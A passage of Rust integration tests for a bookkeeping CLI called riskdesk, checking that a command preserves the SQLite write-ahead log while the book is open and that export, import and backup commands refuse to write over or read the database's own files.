    let k = riskdesk_core::store::DbKey::parse(&key).unwrap();
    let wal = || {
        std::fs::metadata(dir.path().join("locks.db-wal"))
            .map(|m| m.ino())
            .ok()
    };
    let window = || {
        let writer = riskdesk_core::store::reopen(&db, &k).unwrap();
        let reader = riskdesk_core::store::open_reader(&db, &k).unwrap();
        assert_eq!(riskdesk_core::customer::count(&reader).unwrap(), 45);
        (writer, reader)
    };
    // What a dialog does to the book's files, in this process.
    let read_by_a_dialog = || {
        for suffix in ["", "-wal", "-shm"] {
            let mut f = std::fs::File::open(format!("{}{suffix}", db.display())).unwrap();
            let _ = std::io::Read::read(&mut f, &mut [0u8; 64]).unwrap();
        }
    };

    let open = window();
    read_by_a_dialog();
    assert!(wal().is_some());
    cli_ok(&db, &["settings", "list"]);
    assert_eq!(
        wal(),
        None,
        "the locks were lost: the command deleted the WAL"
    );
    drop(open);

    let open = window();
    read_by_a_dialog();
    let (writer, reader) = open;
    drop((writer, reader));
    let open = window();
    let before = wal();
    assert!(before.is_some());
    cli_ok(&db, &["settings", "list"]);
    assert_eq!(wal(), before, "opened again, the book kept its WAL");
    assert_eq!(riskdesk_core::customer::count(&open.1).unwrap(), 45);
}

/// No command writes a document, an export or a backup over the book's own files (the
/// database, its log in any case of name, a database a restore kept), or reads one as a file
/// to import: each is refused, naming the book, and the book is as it was.
#[test]
fn no_command_writes_over_or_reads_the_books_own_files() {
    let (dir, db) = demo_book("own.db");
    let at = |name: &str| dir.path().join(name).display().to_string();
    let kept = at("own.db.before-restore");
    std::fs::write(&kept, b"a book a restore kept").unwrap();
    let (own, wal, upper, journal) = (
        at("own.db"),
        at("own.db-wal"),
        at("OWN.DB"),
        at("own.db-journal"),
    );
    let refused: Vec<Vec<&str>> = vec![
        vec!["letter", "policy", "--customer", "1", "--out", &own],
        vec!["statement", "--customer", "1", "--out", &upper],
        vec!["report", "risk", "--out", &kept],
        vec!["customers", "export", &own],
        vec!["aging", "--open-items", &journal],
        vec!["backup", &journal],
        vec!["customers", "import", &own],
        vec!["invoices", "import", &wal],
        vec!["usage", "import", &own],
        vec!["bank", "import", &own],
        vec!["notices", "import", &own],
        vec!["settings", "set", "letterhead.logo", &own],
    ];
    for args in &refused {
        let out = cli(&db, args);
        assert_refused(&out, "is a file of the book");
        assert!(
            stderr(&out).contains("own.db"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    assert!(!dir.path().join("own.db-journal").exists());
    assert_eq!(std::fs::read(&kept).unwrap(), b"a book a restore kept");
    assert_says(&cli_ok(&db, &["customers", "list"]), "45 customers");
    assert_says(&cli_ok(&db, &["audit", "verify"]), "intact");
    // A file merely named like the book, elsewhere or longer, is written.
    let other = at("own.pdf");
    cli_ok(
        &db,
        &["letter", "policy", "--customer", "1", "--out", &other],
    );
}
